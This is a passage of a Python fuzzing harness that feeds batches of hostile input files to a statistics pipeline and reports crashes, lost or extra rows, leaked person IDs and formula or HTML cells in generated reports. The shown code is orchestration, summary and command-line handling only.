            res["hostile_rows_loaded"] = hostile_rows_loaded(db, set(res["dq"]["hostile_file_ids"]))
            res["scan"] = scan_warehouse(db, idx)
        else:
            res["rows_lost"] = None
        res["reports_ids"] = scan_tree(bdir / "reports", idx)
        res["cache_ids"] = {} if cfg.shared_cache else scan_tree(bdir / "cache", idx)
        res["report_safety"] = report_safety(bdir / "reports")
        sc = res.get("scan", {})
        res["clear_ids"] = (max(sc.get("file_bytes", 0), sum(sc.get("columns", {}).values()))
                            + sum(sc.get("numeric", {}).values()) + sum(res["reports_ids"].values())
                            + res["log_ids"])
        res["cache_clear_ids"] = sum(res["cache_ids"].values())
        res["entries_detail"] = [{"i": e.index, "kind": e.kind, "sub": e.sub, "path": shown(e.rel)[:200],
                                  "expect": e.expect, "poison": e.poison} for e in entries]
        results.append(res)
        with open(results_path, "a", encoding="utf-8", errors="backslashreplace") as fh:
            fh.write(json.dumps(res, ensure_ascii=False) + "\n")
        problem = v != "ok" or res.get("rows_lost") or res["clear_ids"] or res.get("rows_extra")
        log(f"batch {b}: {v} {reasons[:2] if reasons else ''} in {run.seconds:.0f}s, peak RSS {run.maxrss_mb:.0f} MB "
            f"(tree {run.tree_rss_mb:.0f} MB); rows lost {res.get('rows_lost')}, extra {res.get('rows_extra')}, "
            f"clear IDs {res['clear_ids']}, dq mismatches {len(res.get('dq', {}).get('mismatches', []))}")
        if not cfg.keep and not problem:
            shutil.rmtree(bdir, ignore_errors=True)
    if cfg.shared_cache and results:  # the shared cache once, at the end (every batch's entries are in it)
        results[-1]["cache_ids"] = scan_tree(cache, IdIndex.of(ctl.ids | all_planted))
        results[-1]["cache_clear_ids"] = sum(results[-1]["cache_ids"].values())
    summary = summarise(cfg, results, base_run, base_scan, time.monotonic() - t_start, ctl)
    (work / "summary.json").write_text(json.dumps(summary, ensure_ascii=False, indent=1), encoding="utf-8",
                                       errors="backslashreplace")
    return summary


def summarise(cfg: Campaign, results: list[dict], base_run: Run, base_scan: dict, wall: float, ctl: Control) -> dict:
    kinds_total: collections.Counter = collections.Counter()
    by_kind: dict[str, collections.Counter] = collections.defaultdict(collections.Counter)
    blocked: collections.Counter = collections.Counter()
    crashes: list[dict] = []
    mism: list[str] = []
    lost_by_table: collections.Counter = collections.Counter()
    extra_by_table: collections.Counter = collections.Counter()
    echo: collections.Counter = collections.Counter()
    sep: collections.Counter = collections.Counter()
    ctlc: collections.Counter = collections.Counter()
    cols_ids: collections.Counter = collections.Counter()
    numeric: collections.Counter = collections.Counter()
    safety: collections.Counter = collections.Counter()
    examples: list[str] = []
    gen_errors: list[str] = []
    for r in results:
        kinds_total.update(r["kinds"])
        for k, c in r.get("dq", {}).get("by_kind", {}).items():
            by_kind[k].update(c)
        if r["verdict"] == "blocked":
            blocked.update(r["reasons"])
        elif r["verdict"] == "crash":
            crashes.append({"batch": r["batch"], "files": f"{r['first']}-{r['last']}", "reasons": r["reasons"]})
        mism += r.get("dq", {}).get("mismatches", [])
        for t, d in r.get("diff", {}).items():
            lost_by_table[t] += d["lost"]
            extra_by_table[t] += d["extra"]
        sc = r.get("scan", {})
        echo.update(sc.get("echo_unmasked", {}))
        sep.update(sc.get("separated", {}))
        ctlc.update(sc.get("control_chars", {}))
        cols_ids.update(sc.get("columns", {}))
        numeric.update(sc.get("numeric", {}))
        examples += sc.get("examples", [])[:3]
        for k in ("csv_formula_cells", "xlsx_formulas", "html_unescaped"):
            safety[k] += r.get("report_safety", {}).get(k, 0)
        gen_errors += r.get("generator_errors", [])
    return {
        "command": " ".join(sys.argv),
        "config": {k: (str(v) if isinstance(v, Path) else v) for k, v in cfg.__dict__.items()},
        "code_commit": _commit_of(cfg.code),
        "control": {"raw": str(ctl.raw), "years": sorted(ctl.years), "counties": sorted(ctl.counties),
                    "person_ids": len(ctl.ids)},
        "files": sum(kinds_total.values()),
        "entries": sum(r["entries"] for r in results),
        "kinds": dict(sorted(kinds_total.items())),
        "outcome_by_kind": {k: dict(v) for k, v in sorted(by_kind.items())},
        "refreshes": len(results) + 1,
        "crashes": len(crashes), "crash_detail": crashes,
        "blocked": sum(1 for r in results if r["verdict"] == "blocked"), "blocked_reasons": dict(blocked),
        "rows_lost": sum(r.get("rows_lost") or 0 for r in results),
        "rows_extra": sum(r.get("rows_extra") or 0 for r in results),
        "rows_lost_by_table": dict(lost_by_table), "rows_extra_by_table": dict(extra_by_table),
        "batches_not_compared": sum(1 for r in results if r.get("rows_lost") is None),
        "clear_ids": sum(r["clear_ids"] for r in results),
        "cache_clear_ids": sum(r.get("cache_clear_ids", 0) for r in results),
        "cache_files_with_ids": len({f for r in results for f in r["cache_ids"]}),
        "clear_ids_where": {
            "warehouse_file_bytes": sum(r.get("scan", {}).get("file_bytes", 0) for r in results),
            "warehouse_columns": dict(cols_ids),
            "warehouse_numbers": dict(numeric),
            "reports": sum(sum(r["reports_ids"].values()) for r in results),
            "reports_files": sorted({f for r in results for f in r["reports_ids"]}),
            "cache": sum(sum(r["cache_ids"].values()) for r in results),
            "logs": sum(r["log_ids"] for r in results),
        },
        "baseline_clear_ids": {"warehouse_bytes": base_scan["warehouse"]["file_bytes"],
                               "columns": base_scan["warehouse"]["columns"],
                               "echo_unmasked": base_scan["warehouse"]["echo_unmasked"],
                               "reports": base_scan["reports"], "logs": base_scan["logs"],
                               "cache": sum(base_scan["cache"].values()), "cache_files": len(base_scan["cache"])},
        "echo_unmasked_id_shaped": dict(echo), "echo_examples": examples[:10],
        "ids_with_separators_kept": dict(sep),
        "control_chars_in_warehouse": dict(ctlc),
        "report_safety": dict(safety),
        "dq_file_mismatches": len(mism), "dq_file_mismatch_examples": mism[:40],
        "hostile_rows_loaded": sum(r.get("hostile_rows_loaded", 0) for r in results),
        "peak_rss_mb": max([r["maxrss_mb"] for r in results] + [round(base_run.maxrss_mb)]),
        "peak_tree_rss_mb": max([r["tree_rss_mb"] for r in results] + [round(base_run.tree_rss_mb)]),
        "baseline_seconds": round(base_run.seconds, 1), "baseline_rss_mb": round(base_run.maxrss_mb),
        "refresh_seconds": [r["seconds"] for r in results],
        "wall_seconds": round(wall),
        "generator_errors": gen_errors[:20],
        "avoided": sorted(AVOID),
    }


def _commit_of(code: Path) -> str:
    if code.name.startswith("code-"):
        return code.name.removeprefix("code-") + " (git archive snapshot)"
    out = subprocess.run(["git", "-C", str(code), "rev-parse", "--short=12", "HEAD"], capture_output=True, text=True)
    dirty = subprocess.run(["git", "-C", str(code), "status", "--porcelain", "--", "pipelines", "schemas"],
                           capture_output=True, text=True).stdout.strip()
    return out.stdout.strip() + (" + uncommitted edits" if dirty else "")


def markdown(s: dict) -> str:
    lines = [f"Command: `{s['command']}`", "", f"Code refreshed: {s['code_commit']}", "",
             f"Control area: `{s['control']['raw']}` (years {s['control']['years']}, counties "
             f"{s['control']['counties']}, {s['control']['person_ids']:,} person IDs).", "",
             "| kind | files | loaded | rejected | duplicate | not listed |", "|---|---:|---:|---:|---:|---:|"]
    for k, n in s["kinds"].items():
        o = s["outcome_by_kind"].get(k, {})
        lines.append(f"| {k} | {n:,} | {o.get('loaded', 0):,} | {o.get('rejected', 0):,} | {o.get('duplicate', 0):,} "
                     f"| {o.get('absent', 0):,} |")
    lines += ["", "(entries: a link pair or a duplicated file is two entries of one file; \"not listed\": ignored "
              "names and entries inside refused folders)", "",
              "| measure | value |", "|---|---:|",
              f"| hostile files (entries) | {s['files']:,} ({s['entries']:,}) |",
              f"| refreshes (baseline included) | {s['refreshes']} |",
              f"| crashes | {s['crashes']} |",
              f"| blocked by a check (reason printed) | {s['blocked']} {s['blocked_reasons'] or ''} |",
              f"| control rows lost | {s['rows_lost']:,} |",
              f"| control-domain rows added or changed | {s['rows_extra']:,} |",
              f"| clear person IDs found (warehouse file, text columns and numbers; reports; refresh output) | {s['clear_ids']:,} |",
              f"| clear person IDs in the ingest cache (files) | {s['cache_clear_ids']:,} ({s['cache_files_with_ids']:,}) |",
              f"| known bugs steered clear of | {', '.join(s['avoided']) or 'none'} |",
              f"| ID-shaped tokens unmasked in echoed columns | {sum(s['echo_unmasked_id_shaped'].values()):,} |",
              f"| IDs written with separators, kept as written | {sum(s['ids_with_separators_kept'].values()):,} |",
              f"| control characters in warehouse text | {sum(s['control_chars_in_warehouse'].values()):,} |",
              f"| report cells unsafe (CSV formula / xlsx formula / raw HTML) | {s['report_safety'].get('csv_formula_cells', 0)} / "
              f"{s['report_safety'].get('xlsx_formulas', 0)} / {s['report_safety'].get('html_unescaped', 0)} |",
              f"| dq_file expectation mismatches | {s['dq_file_mismatches']:,} |",
              f"| hostile rows loaded (valid hostile data) | {s['hostile_rows_loaded']:,} |",
              f"| peak RSS, largest process (ru_maxrss) | {s['peak_rss_mb']:,} MB |",
              f"| peak RSS, process tree sum (sampled) | {s['peak_tree_rss_mb']:,} MB |",
              f"| baseline refresh | {s['baseline_seconds']} s, {s['baseline_rss_mb']} MB |",
              f"| refresh seconds (min / median / max) | {_mmm(s['refresh_seconds'])} |",
              f"| wall time | {s['wall_seconds'] // 60} min {s['wall_seconds'] % 60} s |"]
    return "\n".join(lines)


def _mmm(xs: list[float]) -> str:
    if not xs:
        return "-"
    ys = sorted(xs)
    return f"{ys[0]:.0f} / {ys[len(ys) // 2]:.0f} / {ys[-1]:.0f}"


def replay(cfg: Campaign, indexes: list[int], out: Path) -> None:
    """Write the control area plus the hostile entries `indexes` into `out` (for a reproduction)."""
    from pipelines.reference import industry_classes, shipped_towns

    raw_control = prepare_control(cfg.work, cfg.scale, 7, cfg.control_dir)
    base_db = cfg.work / "baseline" / "warehouse.sqlite"
    if not base_db.exists():
        raise SystemExit(f"{base_db} missing: run the campaign (or --sample) with this --work first")
    ctl = Control(raw_control, control_person_ids(raw_control))
    describe_control(ctl, base_db)
    towns = shipped_towns()
    hostile_towns = sorted(t for t in towns["town_code"].to_list() if t.startswith(HOSTILE_COUNTY))
    hukou = sorted(towns["town_code"].to_list())[::7]
    industries = sorted(industry_classes()["industry_code"].to_list())
    kinds = plan_kinds(cfg.files, cfg.seed)
    link_control(raw_control, out)
    entries, _, errors = plant(out, out.parent / "outside", indexes, kinds, cfg.seed, ctl, hostile_towns, industries,
                               hukou, cfg.heavy, cfg.bomb_mb, cfg.heavy_max)
    for e in entries:
        print(f"#{e.index} {e.kind}/{e.sub}: {shown(e.rel)}")
    for err in errors:
        print("generator error:", err)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--files", type=int, default=10_000, help="hostile files in all (default 10,000)")
    p.add_argument("--batch", type=int, default=1_000, help="hostile files per refresh (default 1,000)")
    p.add_argument("--seed", type=int, default=12, help="seed of the hostile files (default 12)")
    p.add_argument("--work", type=Path, default=Path("/tmp/townstat-fuzz"), help="work folder (default /tmp/townstat-fuzz)")
    p.add_argument("--sample", action="store_true", help="a quick run: 200 files, one refresh")
    p.add_argument("--control-scale", choices=["county", "tiny"], default="county",
                   help="the control area: the demo at county scale (default) or a tiny area of the same generator")
    p.add_argument("--control", type=Path, help="use this raw area as the control (read only)")
    p.add_argument("--gx", choices=["on", "off"], default="on", help="TOWNSTAT_GX for the refreshes (default on)")
    p.add_argument("--no-heavy", action="store_true", help="leave out the heavy bombs (multi-GB sparse files, "
                                                          "string bombs)")
    p.add_argument("--bomb-mb", type=int, default=256, help="size of the string bombs once unpacked (default 256)")
    p.add_argument("--heavy-per-batch", type=int, default=2, help="heavy bombs per batch at most (default 2)")
    p.add_argument("--timeout", type=float, default=1800, help="seconds before a refresh counts as hung (default 1800)")
    p.add_argument("--warehouse-mode", choices=["fresh", "copy", "alternate"], default="alternate",
                   help="each batch refreshes into a new warehouse, a copy of the baseline's, or alternately")
    p.add_argument("--fresh-cache", action="store_true", help="an empty ingest cache per refresh (default: shared)")
    p.add_argument("--keep", action="store_true", help="keep every batch folder (default: only those with a problem)")
    p.add_argument("--code", type=str, default=str(ROOT),
                   help="the checkout the refreshes run: a folder, or a git revision (HEAD...) unpacked with git "
                        "archive under --work, so that edits to the checkout during the run do not matter "
                        "(default: this checkout as it is)")
    p.add_argument("--only-batch", type=str, help="run these batch numbers only (comma-separated)")
    p.add_argument("--replay", type=str, help="write the control area and these hostile file numbers (comma-"
                                              "separated, or a-b) into --out, then stop")
    p.add_argument("--out", type=Path, help="with --replay: the raw area to write")
    p.add_argument("--include-known-bugs", action="store_true",
                   help=f"also plant what triggers the known bugs ({', '.join(sorted(KNOWN_BUGS))}); "
                        "by default the generator steers clear of them")
    a = p.parse_args(argv)
    cfg = Campaign(work=a.work, files=a.files, batch=a.batch, seed=a.seed, scale=a.control_scale, gx=a.gx == "on",
                   heavy=not a.no_heavy, bomb_mb=a.bomb_mb, heavy_max=a.heavy_per_batch, timeout=a.timeout,
                   keep=a.keep, shared_cache=not a.fresh_cache, control_dir=a.control,
                   warehouse_mode=a.warehouse_mode,
                   only_batches=[int(x) for x in a.only_batch.split(",")] if a.only_batch else None)
    if Path(a.code).is_dir():
        cfg.code = Path(a.code).resolve()
    else:
        cfg.code = snapshot_code(a.work, a.code)
    if a.sample:
        cfg.files, cfg.batch = 200, 200
    if a.include_known_bugs:
        AVOID.clear()
    if a.replay:
        if not a.out:
            p.error("--replay needs --out")
        idx: list[int] = []
        for part in a.replay.split(","):
            lo, _, hi = part.partition("-")
            idx += list(range(int(lo), int(hi or lo) + 1))
        replay(cfg, idx, a.out)
        return 0
    summary = run_campaign(cfg)
    print(markdown(summary))
    print(f"\nresults: {cfg.work / 'results.jsonl'}, {cfg.work / 'summary.json'}")
    bad = summary["crashes"] or summary["rows_lost"] or summary["clear_ids"]
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
